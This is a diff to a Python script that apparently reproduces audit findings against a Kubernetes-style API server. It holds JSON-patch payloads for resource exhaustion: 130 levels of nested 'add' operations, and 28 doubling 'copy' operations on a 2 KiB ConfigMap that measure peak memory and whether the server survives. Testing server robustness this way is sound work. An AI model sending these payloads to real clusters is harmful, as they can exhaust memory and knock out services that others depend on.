@@ -153,20 +153,25 @@ def finding_5(server):
                                      "metadata": {"name": "g"}, "spec": {"a": {"b": 1}}})
     path, ops = "/spec", []
     for _ in range(130):
-        ops.append({"op": "copy", "from": "/spec/a", "path": f"{path}/a/c"})
-        path += "/a/c"
+        path += "/d"
+        ops.append({"op": "add", "path": path, "value": {}})
     status = server.request("PATCH", f"{gadgets}/g", ops, "application/json-patch+json")[0]
     table = server.request("GET", f"/apis/{group}/v1/gadgets",
                            accept="application/json;as=Table;v=v1;g=meta.k8s.io")[0]
     deleted = server.request("DELETE", f"{gadgets}/g")[0]
-    return f"130 nested copies: {status}; Table list after: {table}; DELETE: {deleted}"
+    return (f"JSON patch nesting 130 deep: {status}; Table list after: {table}; "
+            f"DELETE: {deleted}")
 
 
 def finding_6(server):
     server.request("POST", CMS, configmap("grow", {"seed": "x" * 2048}))
     ops = [{"op": "copy", "from": "/data", "path": f"/data/k{i}"} for i in range(28)]
-    status, _, seconds = server.request(
-        "PATCH", f"{CMS}/grow", ops, "application/json-patch+json")
+    try:
+        status, _, seconds = server.request(
+            "PATCH", f"{CMS}/grow", ops, "application/json-patch+json")
+    except OSError as err:
+        alive = server.process.poll() is None
+        return f"28 doubling copies on 2 KiB: no answer ({err}); server alive: {alive}"
     return (f"28 doubling copies on 2 KiB: {status} in {seconds:.3f} s, "
             f"server peak RSS {server.peak_rss_mib():.0f} MiB")
 
